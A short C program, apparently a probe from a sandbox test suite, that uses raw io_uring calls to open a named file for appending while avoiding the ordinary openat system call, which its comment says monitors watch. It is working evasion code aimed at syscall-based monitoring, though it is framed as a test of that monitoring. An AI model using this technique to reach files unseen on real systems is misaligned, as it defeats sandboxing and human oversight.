/* io_uring opens and writes without a system call that anybody looks at. */
#include "attack.h"
#include <linux/io_uring.h>
int main(int c, char **v) {
    struct io_uring_params p = {0};
    int ring = syscall(SYS_io_uring_setup, 4, &p);
    if (ring < 0) { failed("io_uring_setup"); finish(0); }
    char *sq = mmap(0, p.sq_off.array + p.sq_entries * 4, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQ_RING);
    char *cq = mmap(0, p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe), PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_CQ_RING);
    struct io_uring_sqe *e = mmap(0, p.sq_entries * sizeof *e, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQES);
    memset(e, 0, sizeof *e);
    e->opcode = IORING_OP_OPENAT, e->fd = AT_FDCWD, e->addr = (uintptr_t)v[1], e->open_flags = O_WRONLY | O_APPEND;
    *(unsigned *)(sq + p.sq_off.array) = 0;
    *(unsigned *)(sq + p.sq_off.tail) += 1;
    syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0);
    struct io_uring_cqe *done = (void *)(cq + p.cq_off.cqes);
    errno = done->res < 0 ? -done->res : 0;
    finish(mark(done->res));
}
